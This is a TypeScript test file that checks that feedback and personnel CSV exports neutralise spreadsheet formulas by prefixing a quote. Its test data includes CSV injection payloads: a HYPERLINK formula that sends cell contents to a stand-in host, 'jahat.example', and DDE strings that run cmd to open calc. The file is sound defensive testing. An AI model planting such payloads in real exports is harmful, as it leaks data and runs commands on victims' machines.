// CSV exports neutralise spreadsheet formulas (CSV injection): public text starting with = + - @ (or
// a tab or carriage return) is written with a leading ', in every export; numbers stay numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { startTestApp, type TestApp } from './helpers.ts';

let t: TestApp;
let kecamatan: string;

beforeAll(async () => {
  t = await startTestApp({ PUBLIC_RATE_LIMIT_MAX: '100000' });
  [{ id: kecamatan }] = await t.sql<{ id: string }>(`select u.id from org_unit u join government g on g.id = u.government_id where g.code = '33.74' and u.kind = 'KECAMATAN' order by u.name limit 1`);
});
afterAll(() => t.close());

async function csv(path: string): Promise<{ raw: string; rows: string[][] }> {
  const res = await fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${await t.token('gov')}` } });
  expect(res.status).toBe(200);
  const raw = (await res.text()).replace(/^\uFEFF/, '');
  return { raw, rows: Papa.parse<string[]>(raw.trim()).data };
}

describe('CSV formula injection', () => {
  const attacks = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"Klik di sini")',
    '+62 812 3456 7890 saya tunggu jawabannya',
    '-2+3+cmd|\' /C calc\'!A0 keluhan antrean',
    '@SUM(1+1)*cmd|\' /C calc\'!A0 keluhan loket',
    '\t=1+1 keluhan dengan tab di depan',
    '\r=1+1 keluhan dengan carriage return',
  ];

  it('prefixes formula text from submitFeedback with a quote in the feedback export', async () => {
    for (const text of attacks) {
      const res = await t.gql('mutation($input: SubmitFeedbackInput!) { submitFeedback(input: $input) { trackingCode } }', { input: { unitId: kecamatan, category: 'COMPLAINT', text } }, 'anonymous');
      expect(res.errors, text).toBeUndefined();
    }
    const { rows } = await csv(`/export/list/feedback.csv?variables=${encodeURIComponent(JSON.stringify({ filter: { unitId: kecamatan } }))}`);
    const textColumn = rows[0].indexOf('Isi');
    const texts = rows.slice(1).map((r) => r[textColumn]);
    // (the service trims the text, so the tab and carriage return cases arrive as '=...')
    for (const text of attacks) expect(texts, JSON.stringify(text)).toContain(`'${text.trim()}`);
    // No cell of the export starts a formula.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers (days taken), not quoted text.
    const daysColumn = rows[0].indexOf('Hari');
    expect(rows.slice(1).every((r) => /^\d*$/.test(r[daysColumn]))).toBe(true);
  });

  it('neutralises formulas in the DUK too (a major starting with =)', async () => {
    const [e] = await t.sql<{ id: string; nip: string }>(
      `select e.id, e.nip from employee e join government g on g.id = e.government_id where g.code = '33.74' and e.status = 'AKTIF' and e.asn_type = 'PNS' order by e.nip limit 1`,
    );
    const [s3] = await t.sql<{ id: string }>(`select id from education_level where code = 'S3'`);
    await t.ok('mutation($input: AddEducationHistoryInput!) { addEducationHistory(input: $input) { id } }', { input: { employeeId: e.id, levelId: s3.id, institution: 'Universitas Diponegoro', major: '=1+2', graduationYear: 2020 } });
    const { raw, rows } = await csv('/export/duk.csv');
    const row = rows.find((r) => r.includes(e.nip))!;
    expect(row).toContain("'=1+2");
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers are written as numbers (no quote).
    expect(raw).not.toMatch(/'\d/);
  });
});
